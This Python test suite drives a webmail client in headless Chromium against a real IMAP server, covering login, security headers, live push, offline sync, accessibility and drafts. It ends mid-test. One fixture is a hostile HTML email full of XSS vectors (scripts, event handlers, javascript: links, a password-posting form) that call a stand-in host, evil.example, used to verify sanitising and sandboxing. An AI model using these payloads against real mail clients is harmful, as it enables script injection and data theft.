"""The webmail in web/ in a real headless Chromium (npm playwright-core +
Debian chromium) against a real Dovecot and the gateway. IMAP (imaplib) is
the ground truth: what the page shows is checked against it, and mail is
changed behind the page's back with it.

One stack and one browser for the class; each test gets a fresh browser
context (its own cookies and IndexedDB). Screenshots of the main views go
to build/test-output/screenshots/ (next to the gateway binary)."""
import base64
import email
import email.header
import email.utils
import json
import os
import re
import time
import unittest
import uuid

from browser import NODE_DIR, WEB_ROOT, requires_browser
from fixture import StackTestCase
from pwbridge import Browser

BIN = os.environ.get('JMAPGATE_BIN') or os.path.join(os.path.dirname(NODE_DIR), 'build', 'jmapgate')
SHOTS = os.path.join(os.path.dirname(os.path.abspath(BIN)), 'test-output', 'screenshots')
BIG = 20000

ROWS = "#list .row:not(.placeholder)"


def message(subject, body='Hello.\n', frm='Carol <carol@example.org>', to='alice@example.org',
            html=None, extra=''):
    mid = '<%s@test.example>' % uuid.uuid4().hex
    head = ('From: %s\r\nTo: %s\r\nSubject: %s\r\nDate: %s\r\nMessage-ID: %s\r\nMIME-Version: 1.0\r\n%s'
            % (frm, to, subject, email.utils.formatdate(localtime=False), mid, extra))
    if html is None:
        return (head + 'Content-Type: text/plain; charset=utf-8\r\n\r\n' + body).encode()
    return (head + 'Content-Type: text/html; charset=utf-8\r\n\r\n' + html).encode()


HOSTILE = r"""<html><head>
<script>window.parent.__pwned = 'script'; fetch('http://evil.example/script');</script>
<link rel="stylesheet" href="http://evil.example/link.css">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<style>@import url(http://evil.example/import.css);
body { position: fixed; top: -500px; left: -500px; width: 9999px; height: 9999px;
       background: url(http://evil.example/bg.png); z-index: 99999; }</style>
</head><body>
<p id="hello">Quarterly report</p>
<img src="http://evil.example/pixel.png" alt="tracker">
<img src="x" onerror="window.parent.__pwned = 'onerror'">
<a id="jslink" href="javascript:window.parent.__pwned = 'href'">click me</a>
<svg onload="window.parent.__pwned = 'svg'"><circle r="4"/></svg>
<div onclick="window.parent.__pwned = 'onclick'" style="background-image:url('http://evil.example/inline.png')">x</div>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/post" method="post"><input name="pw" value="secret"><button id="go">Go</button></form>
<object data="http://evil.example/obj"></object>
</body></html>"""


@requires_browser
class WebmailTest(StackTestCase):
    USERS = {'alice': 'alice-pw', 'bob': 'bob-pw', 'big': 'big-pw'}
    GATEWAY_ENV = {'JMAPGATE_WEB_ROOT': WEB_ROOT}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.dovecot.seed_corpus('alice', {'INBOX': 60, 'Archive': 10}, seen_every=3)
        cls.dovecot.seed_corpus('big', {'INBOX': BIG}, seen_every=2, flagged_every=50)
        # Dovecot indexes a 20,000-file maildir on its first SELECT (seconds
        # on a busy machine): do it here, not inside the timed browser steps.
        m = cls.dovecot.imap('big', 'big-pw')
        try:
            m.select('INBOX', readonly=True)
            m.uid('SORT', '(REVERSE ARRIVAL)', 'UTF-8', 'ALL')
        finally:
            m.logout()
        os.makedirs(SHOTS, exist_ok=True)
        cls.browser = Browser()

    @classmethod
    def tearDownClass(cls):
        try:
            cls.browser.close()
        finally:
            super().tearDownClass()

    # -- helpers ---------------------------------------------------------
    def run_js(self, js, timeout=None, **args):
        return self.browser.run(js, timeout=timeout, **args)

    def open_app(self, user='alice', password='alice-pw', context_opts=None):
        self.run_js("""
            await ctx.newPage(args.opts || {});
            ctx.api = [];
            ctx.page.on('request', (r) => { if (r.url().includes('/jmap/api')) ctx.api.push(r.postData() || ''); });
            await ctx.page.goto(args.url, { timeout: 15000 });
            await ctx.page.fill('input[name=username]', args.user);
            await ctx.page.fill('input[name=password]', args.password);
            await ctx.page.click('#login button[type=submit]');
            await ctx.page.waitForSelector(args.rows, { timeout: 20000 });
            await ctx.page.waitForSelector('#conn[data-state=live]', { timeout: 10000 });
        """, url=self.gw.base_url + '/', user=user, password=password, rows=ROWS,
            opts=context_opts or {})

    def shot(self, name):
        self.run_js("await ctx.page.screenshot({ path: args.path })",
                    path=os.path.join(SHOTS, name + '.png'))

    def imap(self, user='alice', password='alice-pw'):
        m = self.dovecot.imap(user, password)
        self.addCleanup(lambda: m.logout())
        return m

    def search(self, m, box, criteria):
        m.select(box)
        typ, data = m.uid('SEARCH', None, *criteria)
        self.assertEqual(typ, 'OK')
        return data[0].split()

    def wait_row(self, subject, timeout=10000):
        """Wait until a list row shows subject; returns ms waited in the page."""
        return self.run_js("""
            const t0 = Date.now();
            await ctx.page.waitForFunction((s) => [...document.querySelectorAll('#list .row .subject')]
                .some((e) => e.textContent === s), args.subject, { timeout: args.timeout, polling: 50 });
            return Date.now() - t0;
        """, subject=subject, timeout=timeout)

    def click_row(self, subject):
        self.run_js("""
            await ctx.page.locator('#list .row', { hasText: args.subject }).first().click({ position: { x: 200, y: 20 } });
            await ctx.page.waitForFunction((s) => {
                const h = document.querySelector('#reader article:last-of-type .subject');
                return h && h.textContent === s; }, args.subject, { timeout: 10000 });
        """, subject=subject)

    # -- tests -----------------------------------------------------------
    def test_01_login_inbox_and_message(self):
        self.open_app()
        out = self.run_js("""
            const p = ctx.page;
            const folders = await p.$$eval('#folder-tree a.folder', (as) => as.map((a) => [
                a.querySelector('.name').textContent, (a.querySelector('.badge') || {}).textContent || '0']));
            const rows = await p.$$eval('#list .row .subject', (s) => s.map((e) => e.textContent));
            const cookies = await ctx.context.cookies();
            const c = cookies.find((k) => k.name === 'jmapgate_token');
            return { folders, rows, httpOnly: c ? c.httpOnly : null,
                     scriptSeesCookie: await p.evaluate(() => document.cookie.includes('jmapgate_token')),
                     count: await p.textContent('#list-count') };
        """)
        folders = dict(out['folders'])
        imap = self.imap()
        unseen = len(self.search(imap, 'INBOX', ['UNSEEN']))
        self.assertEqual(folders['INBOX'], str(unseen))
        self.assertIn('Archive', folders)
        self.assertIn('%d unread, 60 in all' % unseen, out['count'])
        self.assertGreater(len(out['rows']), 5)
        self.assertTrue(out['httpOnly'])
        self.assertFalse(out['scriptSeesCookie'])
        # The newest message is first: compare with IMAP's newest by date.
        self.shot('inbox')
        first = out['rows'][0]
        self.click_row(first)
        body = self.run_js("return await ctx.page.textContent('#reader article:last-of-type')")
        self.assertIn(first, body)
        self.shot('message')
        # j opens the next one, k goes back.
        second = out['rows'][1]
        self.run_js("await ctx.page.focus('#list'); await ctx.page.keyboard.press('j')")
        self.run_js("""await ctx.page.waitForFunction((s) => {
            const h = document.querySelector('#reader article:last-of-type .subject');
            return h && h.textContent === s; }, args.s, { timeout: 10000 })""", s=second)
        self.assertEqual(self.run_js("return ctx.errors"), [])

    def test_02_security_headers_and_static_files(self):
        for path in ('/', '/app.js', '/vendor/purify.es.js'):
            st, hd, body = self.gw.request('GET', path)
            self.assertEqual(st, 200, path)
            csp = hd['content-security-policy']
            directives = dict((d.strip().split(' ', 1) + [''])[:2] for d in csp.split(';'))
            self.assertEqual(directives['script-src'], "'self'")
            self.assertNotIn('unsafe', directives['script-src'])
            self.assertEqual(directives['frame-ancestors'], "'none'")
            self.assertEqual(directives['object-src'], "'none'")
            self.assertEqual(hd['x-content-type-options'], 'nosniff')
            self.assertEqual(hd['referrer-policy'], 'no-referrer')
            self.assertEqual(hd['x-frame-options'], 'DENY')
            # revalidated by ETag, never stored stale (API answers stay no-store)
            self.assertEqual(hd['cache-control'], 'no-cache')
        st, hd, body = self.gw.request('GET', '/vendor/purify.es.js')
        self.assertTrue(hd['content-type'].startswith('text/javascript'))
        self.assertTrue(body.startswith(b'/*! @license DOMPurify'))
        # The vendored copy is the version tests/package-lock.json pins.
        with open(os.path.join(NODE_DIR, 'node_modules', 'dompurify', 'dist', 'purify.es.mjs'), 'rb') as f:
            pinned = re.sub(rb'//# sourceMappingURL=\S*', b'', f.read())
        self.assertEqual(body, pinned)
        st, hd, _ = self.gw.request('GET', '/app.js')
        self.assertEqual(self.gw.request('GET', '/app.js', headers={'If-None-Match': hd['etag']})[0], 304)
        self.assertEqual(self.gw.request('GET', '/nope.js')[0], 404)
        self.assertEqual(self.gw.request('GET', '/vendor/nope.js')[0], 404)
        # Only web/ and web/vendor/ are served: no way up or sideways.
        self.assertEqual(self.gw.request('GET', '/vendor/..%2Fapp.js')[0], 404)

    def test_03_new_mail_appears_within_2s(self):
        self.open_app()
        badge = lambda: self.run_js("return await ctx.page.$eval('#folder-tree a.folder', (a) => (a.querySelector('.badge') || {}).textContent || '0')")
        before = int(badge())
        subject = 'Pushed %s' % uuid.uuid4().hex[:8]
        time.sleep(1.0)          # the watcher is IDLEing (push needs no page action)
        t0 = time.monotonic()
        self.dovecot.append('alice', 'alice-pw', 'INBOX', message(subject))
        self.wait_row(subject, timeout=2000)
        took = time.monotonic() - t0
        self.assertLess(took, 2.0)
        # The new row is at the top, unread, and the counts went up live.
        out = self.run_js("""
            const row = await ctx.page.$('#list .row[aria-posinset="1"]');
            return { subj: await row.$eval('.subject', (e) => e.textContent),
                     unread: await row.evaluate((r) => r.classList.contains('unread')),
                     apiCalls: ctx.api.length };
        """)
        self.assertEqual(out['subj'], subject)
        self.assertTrue(out['unread'])
        # The folder's unread count follows, live.
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline and int(badge()) != before + 1:
            time.sleep(0.1)
        self.assertEqual(int(badge()), before + 1)
        print('new mail shown %.2f s after APPEND returned' % took)

    def test_04_flag_and_read_reach_imap(self):
        subject = 'Flag me %s' % uuid.uuid4().hex[:8]
        self.dovecot.append('alice', 'alice-pw', 'INBOX', message(subject))
        self.open_app()
        self.wait_row(subject)
        self.click_row(subject)        # opening marks it read
        imap = self.imap()
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not self.search(imap, 'INBOX', ['SEEN', 'SUBJECT', '"%s"' % subject]):
            time.sleep(0.1)
        self.assertEqual(len(self.search(imap, 'INBOX', ['SEEN', 'SUBJECT', '"%s"' % subject])), 1)
        self.run_js("await ctx.page.focus('#list'); await ctx.page.keyboard.press('s')")
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not self.search(imap, 'INBOX', ['FLAGGED', 'SUBJECT', '"%s"' % subject]):
            time.sleep(0.1)
        self.assertEqual(len(self.search(imap, 'INBOX', ['FLAGGED', 'SUBJECT', '"%s"' % subject])), 1)
        flagged = self.run_js("""return await ctx.page.locator('#list .row', { hasText: args.s })
                                 .first().locator('.flag').count()""", s=subject)
        self.assertEqual(flagged, 1)
        # Another client unflags it: the page follows without a reload.
        uid = self.search(imap, 'INBOX', ['SUBJECT', '"%s"' % subject])[0]
        imap.uid('STORE', uid, '-FLAGS', '(\\Flagged)')
        self.run_js("""await ctx.page.waitForFunction((s) => {
            const r = [...document.querySelectorAll('#list .row')].find((x) => x.textContent.includes(s));
            return r && !r.querySelector('.flag'); }, args.s, { timeout: 5000 })""", s=subject)

    def test_05_hostile_html_runs_nothing_loads_nothing(self):
        subject = 'Hostile %s' % uuid.uuid4().hex[:8]
        self.dovecot.append('alice', 'alice-pw', 'INBOX', message(subject, html=HOSTILE))
        self.open_app()
        # Anything sent to evil.example is answered here (a 1x1 PNG) and recorded.
        self.run_js("""
            ctx.evil = [];
            const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
            await ctx.context.route('http://evil.example/**', (route) => {
                ctx.evil.push(route.request().url());
                return route.fulfill({ status: 200, contentType: 'image/png', body: png });
            });
        """)
        self.wait_row(subject)
        self.click_row(subject)
        out = self.run_js("""
            const p = ctx.page;
            await p.waitForSelector('#reader iframe.body-frame');
            await p.waitForTimeout(800);     // give any refresh, import or onerror its chance
            const frame = await (await p.$('#reader iframe.body-frame')).contentFrame();
            // Try what a user might do: click the javascript: link and the form's button.
            const clicks = [];
            for (const sel of ['#jslink', '#go', 'div[onclick]']) {
                try { await frame.click(sel, { timeout: 500 }); clicks.push(sel); } catch (e) { /* gone */ }
            }
            await p.waitForTimeout(300);
            const sandbox = await p.$eval('#reader iframe.body-frame', (f) => f.getAttribute('sandbox'));
            const inFrame = await frame.evaluate(() => ({
                scripts: document.querySelectorAll('script').length,
                handlers: [...document.querySelectorAll('*')].filter((e) =>
                    [...e.attributes].some((a) => a.name.startsWith('on'))).length,
                jsLinks: [...document.querySelectorAll('[href]')].filter((a) =>
                    /^\\s*javascript:/i.test(a.getAttribute('href'))).length,
                forms: document.querySelectorAll('form, input, button').length,
                frames: document.querySelectorAll('iframe, object, embed, svg').length,
                meta: [...document.querySelectorAll('meta[http-equiv]')].map((m) => m.getAttribute('content')),
                hello: (document.getElementById('hello') || {}).textContent,
                bodyRect: document.body.getBoundingClientRect().width,
            }));
            const frameRect = await p.$eval('#reader iframe.body-frame', (f) => f.getBoundingClientRect().toJSON());
            const banner = await p.isVisible('#reader .banner');
            return { sandbox, inFrame, pwned: await p.evaluate(() => window.__pwned === undefined ? null : window.__pwned),
                     evil: [...ctx.evil], clicks, frameRect, banner, url: p.url(),
                     readerTop: await p.$eval('#reader', (r) => r.getBoundingClientRect().toJSON()) };
        """)
        self.assertIsNone(out['pwned'], out)
        self.assertEqual(out['evil'], [], 'remote loads before the user allowed them')
        self.assertNotIn('allow-scripts', out['sandbox'].split())
        self.assertNotIn('allow-forms', out['sandbox'].split())
        self.assertNotIn('allow-top-navigation', out['sandbox'].split())
        f = out['inFrame']
        self.assertEqual(f['hello'], 'Quarterly report')
        self.assertEqual((f['scripts'], f['handlers'], f['jsLinks'], f['forms'], f['frames']), (0, 0, 0, 0, 0))
        self.assertEqual(len(f['meta']), 1)                 # only our own CSP
        self.assertIn("script-src 'none'", f['meta'][0])
        self.assertTrue(out['banner'])                       # "remote images blocked"
        self.assertTrue(out['url'].startswith(self.gw.base_url))   # no navigation
        # The frame stays inside the reading pane whatever the CSS says.
        self.assertGreaterEqual(out['frameRect']['x'], out['readerTop']['x'] - 1)
        self.assertGreaterEqual(out['frameRect']['y'], out['readerTop']['y'] - 1)
        self.shot('hostile-blocked')
        # The user allows images for this message: now (and only now) they load,
        # and still no script runs.
        out = self.run_js("""
            const p = ctx.page;
            await p.click('#reader .allow-images');
            await p.waitForFunction(() => true);
            const t0 = Date.now();
            while (!ctx.evil.some((u) => u.endsWith('/pixel.png')) && Date.now() - t0 < 5000) await p.waitForTimeout(50);
            await p.waitForTimeout(300);
            return { evil: [...ctx.evil], pwned: await p.evaluate(() => window.__pwned === undefined ? null : window.__pwned),
                     errors: ctx.errors };
        """)
        self.assertIn('http://evil.example/pixel.png', out['evil'])
        for u in out['evil']:
            self.assertTrue(u.endswith('.png'), 'only images may load once allowed: %s' % u)
        self.assertIsNone(out['pwned'])
        self.assertEqual(out['errors'], [])
        self.shot('hostile-allowed')

    def test_06_big_folder_is_virtualised(self):
        self.open_app('big', 'big-pw')
        out = self.run_js("""
            const p = ctx.page;
            const apiBefore = ctx.api.length;
            await p.evaluate(() => {
                window.__maxRows = 0;
                const count = () => { window.__maxRows = Math.max(window.__maxRows,
                    document.querySelectorAll('#list .row').length); };
                new MutationObserver(count).observe(document.getElementById('list'), { childList: true });
                count();
            });
            const total = await p.$eval('#list', (l) => l.querySelector('.spacer').getBoundingClientRect().height);
            // Scroll like a user dragging the scrollbar: 40 steps to the bottom,
            // a frame or two apart, then wait for the last rows.
            const t0 = Date.now();
            for (let i = 1; i <= 40; i++) {
                await p.$eval('#list', (l, f) => { l.scrollTop = f * (l.scrollHeight - l.clientHeight); }, i / 40);
                await p.waitForTimeout(30);
            }
            await p.waitForSelector('#list .row[aria-posinset="' + args.big + '"]:not(.placeholder)', { timeout: 45000 });
            const took = Date.now() - t0;
            const last = await p.$eval('#list .row[aria-posinset="' + args.big + '"] .subject', (e) => e.textContent);
            const inDom = await p.$$eval('#list .row', (r) => r.length);
            // Frame budget while scrolling: time 20 programmatic scrolls + paints.
            const jank = await p.evaluate(async () => {
                const l = document.getElementById('list');
                let worst = 0, prev = performance.now();
                for (let i = 0; i < 20; i++) {
                    l.scrollTop = Math.random() * (l.scrollHeight - l.clientHeight);
                    await new Promise((r) => requestAnimationFrame(r));
                    const now = performance.now(); worst = Math.max(worst, now - prev); prev = now;
                }
                return worst;
            });
            const apiCalls = ctx.api.slice(apiBefore);
            return { maxRows: await p.evaluate(() => window.__maxRows), inDom, last, took, total, jank,
                     apiCalls: apiCalls.length, count: await p.textContent('#list-count'),
                     queries: apiCalls.filter((b) => b.includes('Email/query')).map((b) => JSON.parse(b).methodCalls[0][1].limit) };
        """, timeout=90, big=BIG)
        print('20k folder: bottom reached in %d ms, %d API calls, max %d rows in DOM, worst frame %.0f ms'
              % (out['took'], out['apiCalls'], out['maxRows'], out['jank']))
        self.assertLess(out['maxRows'], 300)
        self.assertLess(out['inDom'], 300)
        self.assertIn('%d in all' % BIG, out['count'])
        self.assertGreater(out['total'], BIG * 40)          # the spacer is the whole folder's height
        # Only what was on screen was fetched: a few pages, each at most 100.
        self.assertLess(out['apiCalls'], 40)
        self.assertTrue(all(q <= 100 for q in out['queries']), out['queries'])
        # The bottom row is the oldest message: check it against IMAP.
        imap = self.imap('big', 'big-pw')
        imap.select('INBOX', readonly=True)
        typ, data = imap.uid('FETCH', '1', '(BODY.PEEK[HEADER.FIELDS (SUBJECT)])')
        self.assertEqual(typ, 'OK')
        raw = email.message_from_bytes(data[0][1])['Subject'] or ''
        oldest = str(email.header.make_header(email.header.decode_header(raw)))
        self.assertEqual(' '.join(out['last'].split()), ' '.join(oldest.split()) or '(no subject)')
        self.shot('big-folder-bottom')

    def test_07_offline_then_delta(self):
        a = 'Flag while offline %s' % uuid.uuid4().hex[:8]
        b = 'Expunged while offline %s' % uuid.uuid4().hex[:8]
        for subj in (a, b):
            self.dovecot.append('alice', 'alice-pw', 'INBOX', message(subj))
        self.open_app()
        self.wait_row(a)
        self.wait_row(b)
        self.run_js("""
            await ctx.context.setOffline(true);
            await ctx.page.waitForSelector('#conn[data-state=offline]', { timeout: 5000 });
            ctx.apiMark = ctx.api.length;
        """)
        self.shot('offline')
        imap = self.imap()
        imap.select('INBOX')
        ua = self.search(imap, 'INBOX', ['SUBJECT', '"%s"' % a])[0]
        ub = self.search(imap, 'INBOX', ['SUBJECT', '"%s"' % b])[0]
        imap.uid('STORE', ua, '+FLAGS', '(\\Flagged)')
        imap.uid('STORE', ub, '+FLAGS', '(\\Deleted)')
        imap.expunge()
        c = 'Arrived while offline %s' % uuid.uuid4().hex[:8]
        self.dovecot.append('alice', 'alice-pw', 'INBOX', message(c))
        time.sleep(1.5)        # the gateway has heard of all three by now
        still = self.run_js("""return await ctx.page.locator('#list .row', { hasText: args.a })
                               .first().locator('.flag').count()""", a=a)
        self.assertEqual(still, 0, 'the page cannot know while offline')
        t0 = time.monotonic()
        self.run_js("""
            await ctx.context.setOffline(false);
            const p = ctx.page;
            await p.waitForFunction((s) => {
                const rows = [...document.querySelectorAll('#list .row')];
                const ra = rows.find((r) => r.textContent.includes(s.a));
                return ra && ra.querySelector('.flag') &&
                       !rows.some((r) => r.textContent.includes(s.b)) &&
                       rows.some((r) => r.textContent.includes(s.c));
            }, args, { timeout: 15000, polling: 100 });
            await p.waitForSelector('#conn[data-state=live]', { timeout: 10000 });
        """, a=a, b=b, c=c)
        took = time.monotonic() - t0
        calls = self.run_js("return ctx.api.slice(ctx.apiMark).map((b) => JSON.parse(b).methodCalls.map((c) => [c[0], c[1].limit || null]))")
        names = [n for call in calls for n, _ in call]
        print('offline -> online: caught up in %.2f s with %s' % (took, names))
        self.assertIn('Email/changes', names)
        # A delta, not a reload: no query bigger than the visible window.
        for call in calls:
            for name, limit in call:
                if name == 'Email/query':
                    self.assertLessEqual(limit or 0, 100)
        self.shot('back-online')

    def test_08_cached_view_shown_at_once_then_delta(self):
        self.open_app()
        first = self.run_js("return await ctx.page.$eval('#list .row[aria-posinset=\"1\"] .subject', (e) => e.textContent)")
        time.sleep(0.5)            # the page cached its first page in IndexedDB
        new = 'While away %s' % uuid.uuid4().hex[:8]
        self.dovecot.append('alice', 'alice-pw', 'INBOX', message(new))
        out = self.run_js("""
            const p = ctx.page;
            // Hold every API answer for 1.5 s: what shows before is from the cache.
            ctx.api.length = 0;
            await ctx.context.route('**/jmap/**', async (route) => {
                await new Promise((r) => setTimeout(r, 1500)); return route.continue(); });
            await p.goto(args.url);
            const t0 = Date.now();
            await p.waitForSelector('#list .row:not(.placeholder)', { timeout: 1400 });
            const cachedAfter = Date.now() - t0;
            const cachedFirst = await p.$eval('#list .row[aria-posinset="1"] .subject', (e) => e.textContent);
            const folders = await p.$$eval('#folder-tree a.folder .name', (n) => n.length);
            await p.waitForFunction((s) => [...document.querySelectorAll('#list .row .subject')]
                .some((e) => e.textContent === s), args.new, { timeout: 15000 });
            await ctx.context.unroute('**/jmap/**');
            return { cachedAfter, cachedFirst, folders,
                     calls: ctx.api.map((b) => JSON.parse(b).methodCalls.map((c) => c[0])) };
        """, url=self.gw.base_url + '/', new=new)
        print('cached view painted %d ms after load; then %s' % (out['cachedAfter'], out['calls']))
        self.assertEqual(out['cachedFirst'], first)
        self.assertGreater(out['folders'], 3)
        names = [n for call in out['calls'] for n in call]
        self.assertIn('Email/changes', names)
        self.assertIn('Mailbox/changes', names)

    def test_09_axe_no_serious_violations(self):
        axe = os.path.join(NODE_DIR, 'node_modules', 'axe-core', 'axe.min.js')
        # axe is injected as an inline script: the test context bypasses the CSP for it.
        self.open_app(context_opts={'bypassCSP': True})
        self.click_row(self.run_js("return await ctx.page.$eval('#list .row .subject', (e) => e.textContent)"))
        results = {}
        for view, prep in (('mail', ''),
                           ('compose', "await ctx.page.keyboard.press('Escape'); await ctx.page.click('#compose-btn'); await ctx.page.waitForSelector('#compose:not([hidden])');"),
                           ('phone', "await ctx.page.keyboard.press('Escape'); await ctx.page.setViewportSize({ width: 375, height: 700 });")):
            results[view] = self.run_js(prep + """
                await ctx.page.addScriptTag({ path: args.axe });
                const r = await ctx.page.evaluate(() => axe.run(document, { resultTypes: ['violations'] }));
                return r.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.length,
                                                  target: v.nodes[0].target }));
            """, axe=axe)
            self.shot('axe-' + view)
        serious = {k: [v for v in vs if v['impact'] in ('serious', 'critical')] for k, vs in results.items()}
        self.assertEqual(serious, {'mail': [], 'compose': [], 'phone': []}, json.dumps(results, indent=1))
        # Keyboard: Tab from the start reaches the search box, then the list; no trap.
        order = self.run_js("""
            const p = ctx.page;
            await p.setViewportSize({ width: 1280, height: 800 });
            await p.evaluate(() => document.activeElement && document.activeElement.blur());
            const seen = [];
            for (let i = 0; i < 40; i++) {
                await p.keyboard.press('Tab');
                seen.push(await p.evaluate(() => { const a = document.activeElement;
                    return a ? (a.id || a.className || a.tagName) : null; }));
            }
            return seen;
        """)
        # Skip link first, then search, folders, toolbar, the list, the
        # reader's buttons; and Tab comes round to the start again (no trap).
        self.assertEqual(order[order.index('skip') + 1], 'q', order)
        self.assertLess(order.index('compose-btn'), order.index('list'), order)
        self.assertIn('move-to', order)
        self.assertGreaterEqual(order.count('skip'), 2, order)

    def test_10_move_drag_delete_undo(self):
        m1 = 'Move me %s' % uuid.uuid4().hex[:8]
        m2 = 'Drag me %s' % uuid.uuid4().hex[:8]
        m3 = 'Delete me %s' % uuid.uuid4().hex[:8]
        for subj in (m1, m2, m3):
            self.dovecot.append('alice', 'alice-pw', 'INBOX', message(subj))
        self.open_app()
        imap = self.imap()

        def where(subj):
            return [box for box in ('INBOX', 'Archive', 'Trash')
                    if self.search(imap, box, ['SUBJECT', '"%s"' % subj])]

        def wait_in(subj, box, timeout=5):
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline and where(subj) != [box]:
                time.sleep(0.1)
            self.assertEqual(where(subj), [box], subj)

        # Move with the toolbar's menu.
        self.wait_row(m1)
        self.click_row(m1)
        self.run_js("""
            const p = ctx.page;
            const archive = await p.$eval('#move-to', (s) => [...s.options].find((o) => o.textContent.trim() === 'Archive').value);
            await p.selectOption('#move-to', archive);
            // Immediate feedback: the row leaves the list before the server answers.
            await p.waitForFunction((s) => ![...document.querySelectorAll('#list .row')]
                .some((r) => r.textContent.includes(s)), args.s, { timeout: 1000 });
            await p.waitForSelector('#toast:not([hidden])');
        """, s=m1)
        wait_in(m1, 'Archive')
        # Move by drag and drop onto the folder.
        self.run_js("""
            const p = ctx.page;
            // Press where the row is seen, as a user does: push may redraw
            // the list between finding the row and pressing, so check what
            // is under the pointer before pressing, and look again if moved.
            // A redraw can also detach the element between finding and
            // measuring it (boundingBox() is then null): measure again.
            const box = async (loc) => {
                for (let i = 0; i < 100; i++) {
                    const b = await loc.boundingBox();
                    if (b) return b;
                    await p.waitForTimeout(20);
                }
                throw new Error('never measurable: ' + loc);
            };
            const row = p.locator('#list .row', { hasText: args.s }).first();
            const target = p.locator('#folder-tree a.folder', { hasText: 'Archive' });
            for (let tries = 0; ; tries++) {
                const b = await box(row);
                const x = b.x + b.width / 2, y = b.y + b.height / 2;
                await p.mouse.move(x, y);
                const under = await p.evaluate(([x, y]) => {
                    const r = document.elementFromPoint(x, y);
                    return r && r.closest('.row') ? r.closest('.row').textContent : ''; }, [x, y]);
                if (!under.includes(args.s) && tries < 5) continue;
                await p.mouse.down();
                const t = await box(target);
                await p.mouse.move(t.x + t.width / 2, t.y + t.height / 2, { steps: 5 });
                await p.mouse.up();
                break;
            }
        """, s=m2)
        wait_in(m2, 'Archive')
        # Delete goes to the Trash, and Undo brings it back.
        self.wait_row(m3)
        self.click_row(m3)
        self.run_js("""
            const p = ctx.page;
            await p.focus('#list');
            await p.keyboard.press('#');
            await p.waitForSelector('#toast:not([hidden]) button:not([hidden])');
        """)
        wait_in(m3, 'Trash')
        self.shot('undo-toast')
        self.run_js("await ctx.page.click('#toast button')")
        wait_in(m3, 'INBOX')
        self.wait_row(m3)
        # Multi-select: ctrl-click two rows, mark both unread in one go.
        self.run_js("""
            const p = ctx.page;
            await p.locator('#list .row', { hasText: args.s }).first().click({ modifiers: ['Control'] });
            await p.locator('#list .row[aria-posinset="5"]').click({ modifiers: ['Control'] });
            await p.waitForSelector('#sel-count:has-text("2 selected")');
            await p.click('.toolbar button[data-act=flag]');
        """, s=m3)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not self.search(imap, 'INBOX', ['FLAGGED', 'SUBJECT', '"%s"' % m3]):
            time.sleep(0.1)
        self.assertTrue(self.search(imap, 'INBOX', ['FLAGGED', 'SUBJECT', '"%s"' % m3]))

    def test_11_draft_with_attachment_survives_expired_login(self):
        subject = 'Draft %s' % uuid.uuid4().hex[:8]
        self.open_app()
        self.run_js("""
            const p = ctx.page;
            await p.focus('#list');
            await p.keyboard.press('c');
            await p.waitForSelector('#compose:not([hidden])');
            await p.fill('#c-to', 'bob@example.org');
            await p.fill('#c-subject', args.subject);
            await p.fill('#c-text', 'First line.');
            await p.setInputFiles('#c-files', { name: 'report.bin', mimeType: 'application/octet-stream',
                                               buffer: Buffer.from('a,b\\n1,2\\r\\n\\u0000end', 'latin1') });
            await p.waitForSelector('#c-attachments li');
            try {
                await p.waitForFunction(() => /Draft saved/.test(document.getElementById('draft-status').textContent),
                                        null, { timeout: 15000 });
            } catch (e) {
                throw new Error('no draft: ' + await p.textContent('#draft-status') + ' / ' +
                                await p.textContent('#c-error') + ' / ' + ctx.console.join('; '));
            }
        """, subject=subject)
        imap = self.imap()
        found = self.search(imap, 'Drafts', ['DRAFT', 'SUBJECT', '"%s"' % subject])
        self.assertEqual(len(found), 1)
        typ, data = imap.uid('FETCH', found[0], '(BODY.PEEK[])')
        raw = data[0][1]
        msg = email.message_from_bytes(raw)
        atts = [(p.get_filename(), p.get_payload(decode=True)) for p in msg.walk() if p.get_filename()]
        # Attachments travel byte for byte (LF, CRLF and NUL included).
        self.assertEqual(atts, [('report.bin', b'a,b\n1,2\r\n\x00end')])
        self.shot('compose')
        # The login expires (cookie gone): the next save asks for the password
        # in an overlay, and the draft being written is all there afterwards.
        self.run_js("""
            const p = ctx.page;
            await ctx.context.clearCookies();
            await p.fill('#c-text', 'First line. Second line.');
            await p.waitForSelector('#reauth:not([hidden])', { timeout: 10000 });
            await p.fill('#reauth input[name=password]', 'alice-pw');
            await p.click('#reauth button[type=submit]');
            await p.waitForSelector('#reauth', { state: 'hidden' });
            await p.waitForFunction(() => /Draft saved/.test(document.getElementById('draft-status').textContent),
                                    null, { timeout: 15000 });
        """)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            found = self.search(imap, 'Drafts', ['SUBJECT', '"%s"' % subject])
            if len(found) == 1:
                typ, data = imap.uid('FETCH', found[0], '(BODY.PEEK[])')
                text = [p.get_payload(decode=True) for p in email.message_from_bytes(data[0][1]).walk()
                        if p.get_content_type() == 'text/plain'][0]
                if b'Second line.' in text:
                    break
            time.sleep(0.2)
        self.assertEqual(len(found), 1, 'the old draft is replaced, not kept beside')
        self.assertIn(b'First line. Second line.', text)
        self.assertEqual(self.run_js("return await ctx.page.inputValue('#c-text')"), 'First line. Second line.')
        # Rich text: the draft gets a text/html alternative with the formatting.
        self.run_js("""
            const p = ctx.page;
            const before = await p.textContent('#draft-status');
            await p.check('#c-rich');
            await p.click('#c-html');
            await p.keyboard.press('End');
            await p.click('#rich-tools button[data-cmd=bold]');
            await p.keyboard.type(' Bold words');
            await p.waitForFunction((b) => { const t = document.getElementById('draft-status').textContent;
                                             return t !== b && /Draft saved/.test(t); }, before, { timeout: 15000 });
        """)
        deadline = time.monotonic() + 5
        html = None
        while time.monotonic() < deadline and html is None:
            found = self.search(imap, 'Drafts', ['SUBJECT', '"%s"' % subject])
            typ, data = imap.uid('FETCH', found[-1], '(BODY.PEEK[])')
